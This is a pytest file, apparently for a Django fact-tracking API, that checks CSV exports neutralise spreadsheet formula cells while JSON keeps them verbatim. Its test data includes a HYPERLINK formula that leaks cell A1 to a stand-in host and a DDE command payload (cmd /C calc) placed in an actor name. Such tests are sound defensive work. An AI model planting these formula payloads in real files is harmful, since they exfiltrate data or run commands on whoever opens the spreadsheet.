"""Formula cells: a CSV cell a spreadsheet would run is neutralised; the JSON stays verbatim."""

import csv
import io

import pytest

from tests.api.test_csv import body
from tracker.api.renderers import csv_lines

pytestmark = pytest.mark.django_db

QUOTE = '=HYPERLINK("http://example.org/?leak="&A1, "Click for the source")'
TEXT = f"A letter to the editor read: {QUOTE} and nothing more."


def test_a_hyperlink_quote_round_trips_verbatim_in_json_and_inert_in_csv(curator_api):
    source = curator_api.post(
        "/api/v1/sources/",
        {"title": "Letters", "slug": "letters-2023", "publisher": "tass",
         "published": "2023-01-02", "text": TEXT},
        format="json",
    )  # fmt: skip
    assert source.status_code == 201, source.content
    created = curator_api.post(
        "/api/v1/claims/",
        {"text": "@once", "quote": QUOTE, "claimant": "tass", "source": "letters-2023",
         "stated": "2023-01-02"},
        format="json",
    )  # fmt: skip
    assert created.status_code == 201, created.content
    claim = created.json()
    assert (claim["quote"], claim["text"]) == (QUOTE, "@once")
    assert curator_api.get(claim["url"]).json()["quote"] == QUOTE

    text = body(curator_api.get("/api/v1/claims/?source=letters-2023&format=csv"))
    line = text.split("\r\n")[1]
    # The neutralised cells are quoted, their inner quotes doubled, a single quote in front.
    assert '"\'=HYPERLINK(""http://example.org/?leak=""&A1, ""Click for the source"")"' in line
    assert ',"\'@once",' in line
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row["quote"] == "'" + QUOTE
    assert row["text"] == "'@once"
    assert row["source.slug"] == "letters-2023"  # other cells as before


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+2", '"\'=1+2"'),
        ("+1", '"\'+1"'),
        ("-1", '"\'-1"'),
        ("@SUM(A1)", '"\'@SUM(A1)"'),
        ("\tx", '"\'\tx"'),
        ("\rx", '"\'\rx"'),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (-1, "-1"),  # numbers are not text: unchanged
        ("x, y", '"x, y"'),
    ],
)
def test_each_formula_start_is_neutralised_and_nothing_else(cell, written):
    lines = list(csv_lines(["a", "b"], [[cell, "z"]]))
    assert lines[1] == f"{written},z\r\n"


def test_a_name_is_neutralised_in_the_actors_export(curator_api):
    curator_api.post(
        "/api/v1/actors/", {"name": "=cmd|' /C calc'!A0", "kind": "person"}, format="json"
    )
    text = body(curator_api.get("/api/v1/actors/?format=csv&q=cmd"))
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row["name"] == "'=cmd|' /C calc'!A0"
